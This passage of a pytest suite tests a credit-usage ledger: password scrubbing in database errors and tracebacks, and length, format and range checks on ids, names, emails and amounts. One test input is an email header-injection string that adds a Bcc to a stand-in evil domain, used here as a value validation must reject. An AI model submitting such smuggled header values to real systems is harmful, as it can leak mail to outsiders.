        storage = SqlStorage.from_url(f"{scheme}://u:S3cr3t@T41l@127.0.0.1:1/x")
        try:
            with pytest.raises(StorageError) as caught:
                storage.read("acme", lambda tx: tx.team)
            assert "T41l" not in repr(caught.value.__cause__)  # the driver's own, scrubbed
            assert "S3cr3t" not in str(caught.value)
            assert "T41l" not in str(caught.value)
        finally:
            storage.engine.dispose()

    @pytest.mark.parametrize("scheme", ["postgresql+psycopg", "mysql+pymysql"])
    def test_a_percent_encoded_password_is_nowhere_in_the_traceback(self, scheme: str) -> None:
        """With '@' written as %40, no part of the password appears in the whole traceback."""
        storage = SqlStorage.from_url(f"{scheme}://u:S3cr3t%40T41l@127.0.0.1:1/x")
        try:
            with pytest.raises(StorageError) as caught:
                storage.read("acme", lambda tx: tx.team)
            printed = "".join(traceback.format_exception(caught.value))
            assert "S3cr3t" not in printed
            assert "T41l" not in printed
        finally:
            storage.engine.dispose()

    @pytest.mark.parametrize("scheme", ["postgresql+psycopg", "mysql+pymysql"])
    def test_a_raw_at_sign_password_is_nowhere_in_the_traceback(self, scheme: str) -> None:
        """Even with a raw '@', no part of the password would appear in the whole traceback."""
        storage = SqlStorage.from_url(f"{scheme}://u:S3cr3t@T41l@127.0.0.1:1/x")
        try:
            with pytest.raises(StorageError) as caught:
                storage.read("acme", lambda tx: tx.team)
            assert "T41l" not in "".join(traceback.format_exception(caught.value))
        finally:
            storage.engine.dispose()


def _ids(app: CreditUsage, id_: str) -> Iterator[str]:
    """Every place an id of ``id_``'s length goes, stored and read back."""
    app.create_team(make_team(team_id=id_))
    yield app.get_team(id_).team_id
    app.add_group(Group(team_id=id_, group_id=id_, name="G"))
    yield app.list_groups(id_)[0].group_id
    app.add_member(
        Member(team_id=id_, user_id=id_, name="U", email="u@x.test", role="admin", group_id=id_)
    )
    yield app.list_members(id_)[0].user_id
    yield use(app, id_, id_, team_id=id_).entry_id
    yield app.member_usage(id_, id_, id_).user_id


class TestInputBounds:
    """Values are bounded before they reach storage, and every storage holds what passes."""

    def test_ids_of_255_characters_are_stored(self, app: CreditUsage) -> None:
        """Team, group, user, entry and viewer ids of 255 characters round-trip on every storage."""
        id_ = "i" * 254 + "é"
        assert list(_ids(app, id_)) == [id_] * 5

    @pytest.mark.usefixtures("team")
    def test_ids_of_256_characters_are_refused(self, app: CreditUsage) -> None:
        """An id of 256 characters is a ValidationError wherever it is given."""
        long = "i" * 256
        for build in (
            lambda: make_team(team_id=long),
            lambda: Group(team_id="acme", group_id=long, name="G"),
            lambda: Member(team_id="acme", user_id=long, name="U", email="u@x.test", role="admin"),
            lambda: use(app, "mia", long),
            lambda: app.snapshot(long, "acme"),
        ):
            with pytest.raises(ValidationError, match="at most 255"):
                build()

    def test_names_of_1000_characters_are_stored(self, app: CreditUsage) -> None:
        """Team, group and member names of 1,000 characters (4-byte ones too) round-trip."""
        name = "𝔑" * 1000
        app.create_team(make_team(name=name))
        app.add_group(Group(team_id="acme", group_id="g", name=name))
        app.add_member(
            Member(team_id="acme", user_id="u", name=name, email="u@x.test", role="admin")
        )
        assert app.get_team("acme").name == name
        assert app.list_groups("acme")[0].name == name
        assert app.list_members("acme")[0].name == name

    @pytest.mark.parametrize(
        "build",
        [
            lambda name: make_team(name=name),
            lambda name: Group(team_id="acme", group_id="g", name=name),
            lambda name: Member(
                team_id="acme", user_id="u", name=name, email="u@x.test", role="admin"
            ),
        ],
    )
    def test_names_longer_than_1000_characters_or_blank_are_refused(
        self, build: Callable[[str], object]
    ) -> None:
        """A name of 1,001 characters, or of white space only, is a ValidationError."""
        with pytest.raises(ValidationError, match="at most 1000"):
            build("n" * 1001)
        with pytest.raises(ValidationError, match="non-empty"):
            build("  ")

    @pytest.mark.usefixtures("team")
    def test_emails_of_254_characters_are_stored(self, app: CreditUsage) -> None:
        """An email of 254 characters round-trips on every storage."""
        email = "a" * 241 + "@acme.example"
        assert len(email) == 254
        app.add_member(Member(team_id="acme", user_id="u", name="U", email=email, role="member"))
        assert member(app, "u").email == email

    @pytest.mark.parametrize(
        "email",
        [
            "a" * 242 + "@acme.example",
            "no-at-sign.example",
            "a@nodot",
            "a b@acme.example",
            "a@acme.example\r\nBcc: x@evil.test",
            "<a@acme.example>",
        ],
    )
    def test_bad_or_overlong_emails_are_refused(self, email: str) -> None:
        """An email over 254 characters, or not one address without white space, is refused."""
        with pytest.raises(ValidationError, match="email"):
            Member(team_id="acme", user_id="u", name="U", email=email, role="member")

    @pytest.mark.parametrize("credit_type", ["Email", "-email", "e" * 65, "e mail", ""])
    def test_credit_types_are_slugs(self, credit_type: str) -> None:
        """A credit type that is no slug of at most 64 characters is refused."""
        with pytest.raises(ValidationError, match="credit type"):
            make_team(credit_types=(credit_type,))

    @pytest.mark.parametrize("bad", ["\x00", "\ud800", "a\udfffb"])
    @pytest.mark.parametrize("field", ["team_id", "name", "email"])
    def test_text_must_be_valid_unicode(self, bad: str, field: str) -> None:
        """NUL and lone surrogates are refused in ids, names and emails."""
        fields = {"team_id": "acme", "user_id": "u", "name": "U", "email": "u@x.test"}
        fields[field] = f"u{bad}@x.test" if field == "email" else f"x{bad}y"
        with pytest.raises(ValidationError, match=field):
            Member(role="member", **fields)

    @pytest.mark.usefixtures("team")
    def test_amounts_up_to_10_to_the_15_are_stored(self, app: CreditUsage) -> None:
        """A grant of 10**15 credits round-trips on every storage."""
        app.grant_credits("acme", amount=10**15, occurred_at=NOW, entry_id="g1")
        assert app.snapshot("ada", "acme").total_credits == 10_000 + 10**15

    @pytest.mark.usefixtures("team")
    @pytest.mark.parametrize("amount", [0, -1, 10**15 + 1, 1.0, True, "1"])
    def test_amounts_outside_1_to_10_to_the_15_or_not_integers_are_refused(
        self, app: CreditUsage, amount: object
    ) -> None:
        """Amounts are integers from 1 to 10**15, in usage, grants and reversals."""
        with pytest.raises(ValidationError, match="amount"):
            use(app, "mia", "e1", amount)  # type: ignore[arg-type]
        with pytest.raises(ValidationError, match="amount"):
            app.grant_credits("acme", amount=amount, occurred_at=NOW, entry_id="g1")  # type: ignore[arg-type]
        with pytest.raises(ValidationError, match="amount"):
            app.reverse_usage("acme", "e1", reversal_id="r1", amount=amount)  # type: ignore[arg-type]

    @pytest.mark.usefixtures("team")
    def test_a_team_ledger_moves_at_most_10_to_the_18_credits(self, app: CreditUsage) -> None:
        """Entries up to MAX_LEDGER_VOLUME in total are stored; one credit more is refused."""
        assert MAX_LEDGER_VOLUME == 10**18
        use(app, "mia", "e0", 1)
        grants = [grant_entry(f"g{i}", 10**15) for i in range(999)]
        grants.append(grant_entry("g999", 10**15 - 1))
        assert app.record_many(grants) == 1000  # the volume is now exactly 10**18
        for one_more in (
            lambda: app.grant_credits("acme", amount=1, occurred_at=NOW, entry_id="g-more"),
            lambda: use(app, "mia", "e1", 1),
            lambda: app.record_many([grant_entry("g-more", 1)], enforce_limits=False),
            lambda: app.reverse_usage("acme", "e0", reversal_id="r0"),
        ):
            with pytest.raises(ValidationError, match=str(MAX_LEDGER_VOLUME)):
                one_more()
        assert app.snapshot("ada", "acme").total_credits == 10_000 + 10**18 - 1
